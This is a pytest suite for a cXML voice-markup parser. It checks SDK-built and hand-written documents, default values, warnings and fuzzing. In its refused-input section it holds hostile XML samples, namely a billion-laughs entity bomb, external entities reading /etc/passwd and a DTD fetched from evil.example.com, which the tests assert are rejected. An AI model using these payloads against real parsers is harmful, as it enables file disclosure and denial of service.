"""The cXML parser: documents from the twilio SDK, hand-written ones as SignalWire's docs show
them, attribute rules and defaults, tolerated problems, refused and hostile input."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from twilio.twiml.voice_response import VoiceResponse

from confstream.voice.cxml import (
    LOOP_FOREVER,
    MAX_DEPTH,
    MAX_DOCUMENT_BYTES,
    MAX_ELEMENTS,
    MAX_SAY_CHARS,
    ConferenceNoun,
    ConnectVerb,
    CxmlContentTypeError,
    CxmlError,
    CxmlRootError,
    CxmlTooLarge,
    DialVerb,
    GatherVerb,
    HangupVerb,
    PauseVerb,
    PlayVerb,
    RedirectVerb,
    RejectVerb,
    SayVerb,
    StartVerb,
    StopVerb,
    StreamNoun,
    parse,
)

URL = "https://app.example.com/voice/answer.xml"


def _one(xml: str, url: str | None = URL) -> object:
    doc = parse(xml, url)
    assert len(doc.verbs) == 1, doc
    return doc.verbs[0]


def _warnings(xml: str, url: str | None = URL) -> list[str]:
    return [w.message for w in parse(xml, url).warnings]


# ----------------------------------------------------------------------------- twilio SDK


def test_sdk_dial_conference_with_every_supported_attribute() -> None:
    r = VoiceResponse()
    dial = r.dial(action="/after-conference", method="GET", time_limit=600, hangup_on_star=True)
    dial.conference(
        "Room 1234",
        muted=True,
        beep="onEnter",
        start_conference_on_enter=False,
        end_conference_on_exit=True,
        wait_url="/hold.wav",
        wait_method="GET",
        max_participants=10,
        status_callback="https://cb.example.com/conf",
        status_callback_event="start end join leave mute hold speaker",
        status_callback_method="GET",
        participant_label="agent-7",
    )
    doc = parse(str(r), URL)
    assert doc.warnings == ()
    assert doc.verbs == (
        DialVerb(
            conference=ConferenceNoun(
                name="Room 1234",
                muted=True,
                beep="onEnter",
                start_conference_on_enter=False,
                end_conference_on_exit=True,
                wait_url="https://app.example.com/hold.wav",
                wait_method="GET",
                max_participants=10,
                status_callback="https://cb.example.com/conf",
                status_callback_event=frozenset(
                    {"start", "end", "join", "leave", "mute", "hold", "speaker"}
                ),
                status_callback_method="GET",
                participant_label="agent-7",
            ),
            action="https://app.example.com/after-conference",
            method="GET",
            time_limit=600,
            hangup_on_star=True,
        ),
    )


def test_sdk_conference_defaults_follow_twilio() -> None:
    r = VoiceResponse()
    r.dial().conference("plain")
    dial = _one(str(r))
    assert dial == DialVerb(conference=ConferenceNoun(name="plain"))
    assert isinstance(dial, DialVerb) and dial.conference is not None
    c = dial.conference
    assert (c.muted, c.beep, c.start_conference_on_enter, c.end_conference_on_exit) == (
        False,
        "true",
        True,
        False,
    )
    assert (c.max_participants, c.wait_url, c.status_callback_event) == (250, None, frozenset())
    assert (c.wait_method, c.status_callback_method, dial.method, dial.action) == (
        "POST",
        "POST",
        "POST",
        None,
    )
    assert dial.time_limit == 14400 and dial.hangup_on_star is False


@pytest.mark.parametrize("beep", ["true", "false", "onEnter", "onExit"])
def test_every_beep_value(beep: str) -> None:
    r = VoiceResponse()
    r.dial().conference("b", beep=beep)
    dial = _one(str(r))
    assert isinstance(dial, DialVerb) and dial.conference is not None
    assert dial.conference.beep == beep


def test_sdk_boolean_beep_and_list_of_events_as_the_sdk_renders_them() -> None:
    r = VoiceResponse()
    r.dial().conference("x", beep=False, status_callback_event=["start", "leave"])
    assert "['start', 'leave']" in str(r)  # what the SDK really emits for a list
    doc = parse(str(r), URL)
    assert doc.warnings == ()
    dial = doc.verbs[0]
    assert isinstance(dial, DialVerb) and dial.conference is not None
    assert dial.conference.beep == "false"
    assert dial.conference.status_callback_event == frozenset({"start", "leave"})


def test_empty_wait_url_means_no_music() -> None:
    r = VoiceResponse()
    r.dial().conference("quiet", wait_url="")
    assert 'waitUrl=""' in str(r)
    dial = _one(str(r))
    assert isinstance(dial, DialVerb) and dial.conference is not None
    assert dial.conference.wait_url is None


def test_sdk_start_stream_with_parameters_and_stop() -> None:
    r = VoiceResponse()
    stream = r.start().stream(
        url="wss://media.example.com/s",
        name="mon",
        track="both_tracks",
        status_callback="/stream-events",
        status_callback_method="GET",
    )
    stream.parameter(name="customer", value="42")
    stream.parameter(name="lang", value="fr")
    r.say("The stream has started.")
    r.stop().stream(name="mon")
    doc = parse(str(r), URL)
    assert doc.warnings == ()
    assert doc.verbs == (
        StartVerb(
            (
                StreamNoun(
                    url="wss://media.example.com/s",
                    name="mon",
                    track="both_tracks",
                    status_callback="https://app.example.com/stream-events",
                    status_callback_method="GET",
                    parameters=(("customer", "42"), ("lang", "fr")),
                ),
            )
        ),
        SayVerb("The stream has started."),
        StopVerb(("mon",)),
    )


def test_stream_defaults_and_stop_without_name() -> None:
    doc = parse(
        '<Response><Start><Stream url="wss://m.example.com/a"/></Start>'
        "<Stop><Stream/></Stop></Response>",
        URL,
    )
    assert doc.verbs == (
        StartVerb((StreamNoun("wss://m.example.com/a"),)),
        StopVerb((None,)),
    )
    start = doc.verbs[0]
    assert isinstance(start, StartVerb)
    stream = start.streams[0]
    assert stream is not None
    assert (stream.track, stream.status_callback_method, stream.name) == (
        "inbound_track",
        "POST",
        None,
    )


def test_sdk_connect_stream() -> None:
    r = VoiceResponse()
    r.connect(action="/after-stream", method="GET").stream(url="wss://bot.example.com/ws")
    assert _one(str(r)) == ConnectVerb(
        StreamNoun("wss://bot.example.com/ws"), "https://app.example.com/after-stream", "GET"
    )


def test_connect_stream_is_inbound_only() -> None:
    doc = parse(
        '<Response><Connect><Stream url="wss://b.example.com" track="both_tracks"/>'
        "</Connect></Response>",
        URL,
    )
    assert doc.verbs == (ConnectVerb(StreamNoun("wss://b.example.com")),)
    assert any("inbound track only" in w.message for w in doc.warnings)


def test_sdk_play_say_pause_with_attributes() -> None:
    r = VoiceResponse()
    r.play("https://cdn.example.com/a.wav", loop=3)
    r.play("/relative/b.wav", loop=0)
    r.play(digits="12w3#")
    r.say("Bonjour", voice="woman", language="fr-FR", loop=2)
    r.say("forever", loop=0)
    r.pause(length=4)
    r.pause()
    doc = parse(str(r), URL)
    assert doc.warnings == ()
    assert doc.verbs == (
        PlayVerb("https://cdn.example.com/a.wav", 3),
        PlayVerb("https://app.example.com/relative/b.wav", LOOP_FOREVER),
        PlayVerb(None, 1, "12w3#"),
        SayVerb("Bonjour", "woman", "fr-FR", 2),
        SayVerb("forever", "man", "en-US", LOOP_FOREVER),
        PauseVerb(4),
        PauseVerb(1),
    )


def test_sdk_gather_with_nested_prompts() -> None:
    r = VoiceResponse()
    g = r.gather(
        input="dtmf",
        action="/menu",
        method="GET",
        num_digits=3,
        timeout=7,
        finish_on_key="*",
        action_on_empty_result=True,
    )
    g.say("Enter your code")
    g.play("/beep.wav")
    g.pause(length=2)
    r.say("We did not get that")
    doc = parse(str(r), URL)
    assert doc.warnings == ()
    assert doc.verbs == (
        GatherVerb(
            action="https://app.example.com/menu",
            method="GET",
            timeout=7,
            finish_on_key="*",
            num_digits=3,
            action_on_empty_result=True,
            prompts=(
                SayVerb("Enter your code"),
                PlayVerb("https://app.example.com/beep.wav"),
                PauseVerb(2),
            ),
        ),
        SayVerb("We did not get that"),
    )


def test_gather_defaults_follow_twilio() -> None:
    r = VoiceResponse()
    r.gather()
    gather = _one(str(r))
    assert gather == GatherVerb(action=URL)  # action defaults to the document's own URL
    assert isinstance(gather, GatherVerb)
    assert (gather.timeout, gather.finish_on_key, gather.num_digits, gather.method) == (
        5,
        "#",
        None,
        "POST",
    )
    assert gather.action_on_empty_result is False
    inline = _one(str(r), url=None)
    assert isinstance(inline, GatherVerb) and inline.action is None


def test_gather_finish_on_key_may_be_empty() -> None:
    gather = _one('<Response><Gather finishOnKey=""/></Response>')
    assert isinstance(gather, GatherVerb) and gather.finish_on_key == ""


def test_sdk_redirect_hangup_reject() -> None:
    r = VoiceResponse()
    r.redirect("../next.xml", method="GET")
    r.hangup()
    r.reject(reason="busy")
    r.reject()
    doc = parse(str(r), URL)
    assert doc.verbs == (
        RedirectVerb("https://app.example.com/next.xml", "GET"),
        HangupVerb(),
        RejectVerb("busy"),
        RejectVerb("rejected"),
    )


def test_empty_redirect_loops_to_the_document_itself() -> None:
    assert _one("<Response><Redirect/></Response>") == RedirectVerb(URL, "POST")


# ----------------------------------------------------------------------------- hand-written


SIGNALWIRE_CONFERENCE = """<?xml version="1.0" encoding="UTF-8"?>
<Response>
  <Say>Welcome. You are joining the room.</Say>
  <Dial action="https://example.com/dial-done" method="POST">
    <Conference
        startConferenceOnEnter="false"
        beep="false"
        waitUrl="https://example.com/hold.wav"
        statusCallback="https://example.com/conference-events"
        statusCallbackEvent="start end join leave">
      Room 1234
    </Conference>
  </Dial>
  <Say>You have left the conference.</Say>
</Response>
"""


def test_signalwire_style_document_with_whitespace_and_declaration() -> None:
    doc = parse(SIGNALWIRE_CONFERENCE, "https://example.com/answer")
    assert doc.warnings == ()
    say, dial, bye = doc.verbs
    assert say == SayVerb("Welcome. You are joining the room.")
    assert isinstance(dial, DialVerb) and dial.conference is not None
    assert dial.conference.name == "Room 1234"
    assert dial.conference.start_conference_on_enter is False
    assert dial.conference.status_callback_event == {"start", "end", "join", "leave"}
    assert dial.action == "https://example.com/dial-done"
    assert bye == SayVerb("You have left the conference.")


def test_bytes_utf16_and_leading_whitespace_are_read() -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?><Response><Say>héllo</Say></Response>'
    assert parse(text.encode("utf-16"), URL).verbs == (SayVerb("héllo"),)
    assert parse(b"\n  " + SIGNALWIRE_CONFERENCE.encode(), URL).verbs[0] == SayVerb(
        "Welcome. You are joining the room."
    )


def test_say_with_ssml_keeps_the_text() -> None:
    say = _one(
        "<Response><Say>Hello <break time='1s'/><emphasis>world</emphasis>, "
        "<prosody rate='slow'>slowly</prosody></Say></Response>"
    )
    assert say == SayVerb("Hello world, slowly")


def test_empty_response_has_no_verbs() -> None:
    assert parse("<Response/>", URL).verbs == ()


# ----------------------------------------------------------------------------- tolerated


def test_unknown_and_wrongly_cased_verbs_are_skipped_with_12200() -> None:
    doc = parse("<Response><say>lower</say><Dance/><Say>kept</Say></Response>", URL)
    assert doc.verbs == (SayVerb("kept"),)
    assert [w.code for w in doc.warnings] == [12200, 12200]
    assert "<say>" in doc.warnings[0].message and doc.warnings[0].line == 1
    assert not any(w.unsupported for w in doc.warnings)


def test_valid_but_unsupported_twiml_is_marked_unsupported() -> None:
    doc = parse(
        '<Response><Record maxLength="20"/><Dial record="record-from-answer">'
        "<Number>+15551234567</Number></Dial><Say>after</Say></Response>",
        URL,
    )
    assert doc.verbs[0] == DialVerb(conference=None)  # the dial will fail
    assert doc.verbs[1] == SayVerb("after")
    assert [w.unsupported for w in doc.warnings] == [True, True, True]


def test_dial_to_a_plain_number_fails() -> None:
    doc = parse("<Response><Dial>+15551234567</Dial></Response>", URL)
    assert doc.verbs == (DialVerb(conference=None),)
    assert doc.warnings[0].unsupported


def test_unknown_attributes_are_ignored_with_a_warning() -> None:
    doc = parse('<Response><Say colour="blue">hi</Say></Response>', URL)
    assert doc.verbs == (SayVerb("hi"),)
    assert doc.warnings[0].code == 12200 and "colour" in doc.warnings[0].message


@pytest.mark.parametrize(
    ("xml", "expected"),
    [
        (
            '<Play loop="-1">https://a.example.com/x.wav</Play>',
            PlayVerb("https://a.example.com/x.wav"),
        ),
        (
            '<Play loop="two">https://a.example.com/x.wav</Play>',
            PlayVerb("https://a.example.com/x.wav"),
        ),
        ('<Pause length="0"/>', PauseVerb(1)),
        ('<Pause length="99999"/>', PauseVerb(3600)),
        ('<Reject reason="nope"/>', RejectVerb("rejected")),
        ('<Gather timeout="0"/>', GatherVerb(action=URL)),
        ('<Gather finishOnKey="x"/>', GatherVerb(action=URL)),
        ('<Gather numDigits="0"/>', GatherVerb(action=URL)),
        ('<Gather method="PUT"/>', GatherVerb(action=URL)),
        ('<Gather input="speech"/>', GatherVerb(action=URL)),
        ('<Dial><Conference beep="loud">c</Conference></Dial>', DialVerb(ConferenceNoun("c"))),
        ('<Dial><Conference muted="yes">c</Conference></Dial>', DialVerb(ConferenceNoun("c"))),
        (
            '<Dial><Conference maxParticipants="900">c</Conference></Dial>',
            DialVerb(ConferenceNoun("c", max_participants=250)),
        ),
        (
            '<Dial><Conference statusCallbackEvent="start bogus">c</Conference></Dial>',
            DialVerb(ConferenceNoun("c", status_callback_event=frozenset({"start"}))),
        ),
        (
            '<Dial><Conference participantLabel="' + "x" * 129 + '">c</Conference></Dial>',
            DialVerb(ConferenceNoun("c")),
        ),
        (
            '<Start><Stream url="wss://s.example.com" track="left"/></Start>',
            StartVerb((StreamNoun("wss://s.example.com"),)),
        ),
    ],
)
def test_invalid_values_fall_back_to_the_default_with_a_warning(xml: str, expected: object) -> None:
    doc = parse(f"<Response>{xml}</Response>", URL)
    assert doc.verbs == (expected,)
    assert len(doc.warnings) == 1 and doc.warnings[0].code == 12200


@pytest.mark.parametrize(
    "xml",
    [
        "<Play/>",
        "<Play>ftp://files.example.com/a.wav</Play>",
        "<Say>   </Say>",
        "<Redirect>mailto:x@example.com</Redirect>",
        "<Start><Stream/></Start>",
        "<Connect><Room>r</Room></Connect>",
        "<Dial><Conference>   </Conference></Dial>",
    ],
)
def test_verbs_that_cannot_run_are_skipped_or_fail_with_a_warning(xml: str) -> None:
    doc = parse(f"<Response>{xml}</Response>", URL)
    assert doc.verbs in ((), (DialVerb(conference=None),))
    assert doc.warnings


def test_relative_urls_need_a_document_url() -> None:
    doc = parse("<Response><Play>/a.wav</Play><Redirect>/next</Redirect></Response>", None)
    assert doc.verbs == ()
    assert len(doc.warnings) == 2 and "relative" in doc.warnings[0].message


def test_long_say_text_is_cut() -> None:
    say = _one(f"<Response><Say>{'a' * (MAX_SAY_CHARS + 10)}</Say></Response>")
    assert isinstance(say, SayVerb) and len(say.text) == MAX_SAY_CHARS


def test_gather_keeps_only_say_play_pause() -> None:
    doc = parse(
        "<Response><Gather><Say>a</Say><Dial><Conference>c</Conference></Dial>"
        "<Hangup/></Gather></Response>",
        URL,
    )
    gather = doc.verbs[0]
    assert isinstance(gather, GatherVerb) and gather.prompts == (SayVerb("a"),)
    assert len(doc.warnings) == 2


# ----------------------------------------------------------------------------- refused


@pytest.mark.parametrize(
    "body",
    [
        "",
        "hello",
        "<Response><Say>unclosed</Response>",
        "<Response><Say a=1>x</Say></Response>",
        "<Response>&undefined;</Response>",
        '<Response><Say a="1" a="2">x</Say></Response>',
        b"<Response>\xff\xfe</Response>",
        "<Response/><Response/>",
    ],
)
def test_not_xml_is_a_12100_parse_failure(body: str | bytes) -> None:
    with pytest.raises(CxmlError) as info:
        parse(body, URL)
    assert type(info.value) is CxmlError and info.value.code == 12100


def test_the_root_must_be_response() -> None:
    with pytest.raises(CxmlRootError) as info:
        parse("<response><Say>x</Say></response>", URL)
    assert info.value.code == 12102 and info.value.line == 1


@pytest.mark.parametrize("ctype", ["text/plain", "application/json", "audio/wav", ""])
def test_content_type_must_be_xml(ctype: str) -> None:
    with pytest.raises(CxmlContentTypeError) as info:
        parse("<Response/>", URL, content_type=ctype)
    assert info.value.code == 12300


@pytest.mark.parametrize(
    "ctype", ["text/xml", "application/xml; charset=utf-8", "TEXT/HTML;charset=UTF-8"]
)
def test_xml_content_types_are_accepted(ctype: str) -> None:
    assert parse("<Response><Hangup/></Response>", URL, content_type=ctype).verbs == (HangupVerb(),)


def test_a_document_over_64_kib_is_refused_with_11750() -> None:
    body = "<Response>" + "<Pause/>" * (MAX_DOCUMENT_BYTES // 8) + "</Response>"
    with pytest.raises(CxmlTooLarge) as info:
        parse(body, URL)
    assert info.value.code == 11750
    with pytest.raises(CxmlTooLarge):
        parse(body.encode(), URL)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Response><Say>&lol9;</Say></Response>
"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        '<!DOCTYPE r SYSTEM "file:///etc/passwd"><Response/>',
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Response><Say>&x;</Say></Response>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example.com/x.dtd"> %p;]><Response/>',
        "<!DOCTYPE Response><Response/>",
    ],
)
def test_dtds_and_entities_are_refused_at_once(body: str) -> None:
    started = time.perf_counter()
    with pytest.raises(CxmlError) as info:
        parse(body, URL)
    assert info.value.code == 12100 and "not allowed" in info.value.message
    assert time.perf_counter() - started < 0.5


def test_deep_nesting_is_refused_before_it_is_built() -> None:
    depth = MAX_DEPTH * 100  # far deeper than allowed, still under the size bound
    body = "<Response>" + "<p>" * depth + "</p>" * depth + "</Response>"
    assert len(body) < MAX_DOCUMENT_BYTES
    with pytest.raises(CxmlError) as info:
        parse(body, URL)
    assert "deeper" in info.value.message
    ok = "<Response><Say>" + "<s>" * (MAX_DEPTH - 2) + "x" + "</s>" * (MAX_DEPTH - 2)
    assert parse(ok + "</Say></Response>", URL).verbs == (SayVerb("x"),)


def test_too_many_elements_are_refused() -> None:
    body = "<Response>" + "<Hangup/>" * MAX_ELEMENTS + "</Response>"
    assert len(body) < MAX_DOCUMENT_BYTES
    with pytest.raises(CxmlError) as info:
        parse(body, URL)
    assert "elements" in info.value.message


# ----------------------------------------------------------------------------- fuzz

_TAGS = st.sampled_from(
    [
        "Response",
        "Say",
        "Play",
        "Pause",
        "Gather",
        "Dial",
        "Conference",
        "Start",
        "Stop",
        "Stream",
        "Parameter",
        "Connect",
        "Redirect",
        "Hangup",
        "Reject",
        "x",
        "say",
    ]
)
_ATTRS = st.sampled_from(
    [
        "loop",
        "length",
        "digits",
        "action",
        "method",
        "timeout",
        "numDigits",
        "finishOnKey",
        "beep",
        "muted",
        "url",
        "name",
        "track",
        "waitUrl",
        "statusCallbackEvent",
        "reason",
        "maxParticipants",
        "participantLabel",
        "input",
        "zz",
    ]
)
_VALUES = st.one_of(
    st.sampled_from(
        [
            "true",
            "false",
            "0",
            "1",
            "-3",
            "GET",
            "POST",
            "",
            "#",
            "onExit",
            "/rel",
            "wss://h.example.com",
            "http://[::1",
            "['a', 'b']",
        ]
    ),
    st.text(max_size=12),
)


@st.composite
def _xmlish(draw: st.DrawFn, depth: int = 0) -> str:
    tag = draw(_TAGS)
    attrs = draw(st.dictionaries(_ATTRS, _VALUES, max_size=3))
    rendered = "".join(
        f' {k}="{v.replace("&", "&amp;").replace(chr(34), "&quot;").replace("<", "&lt;")}"'
        for k, v in attrs.items()
    )
    children = []
    if depth < 4:
        children = draw(st.lists(_xmlish(depth + 1), max_size=3))
    text = draw(st.sampled_from(["", "Room 1", "https://a.example.com/x.wav", "/next", "&amp;"]))
    return f"<{tag}{rendered}>{text}{''.join(children)}</{tag}>"


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_random_bytes_only_ever_raise_cxml_error(data: bytes) -> None:
    try:
        parse(data, URL)
    except CxmlError:
        pass


@settings(max_examples=300, deadline=None)
@given(_xmlish(), st.sampled_from([URL, None, "not a url"]))
def test_random_cxml_like_documents_only_ever_raise_cxml_error(body: str, url: str | None) -> None:
    for document in (body, "<Response>" + body + "</Response>"):
        try:
            doc = parse(document, url)
        except CxmlError:
            continue
        assert all(w.code == 12200 for w in doc.warnings)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>/=\"' &;!?-[]DOCTYPEResponseSay")), max_size=200))
def test_markup_soup_only_ever_raises_cxml_error(body: str) -> None:
    try:
        parse(body, URL)
    except CxmlError:
        pass
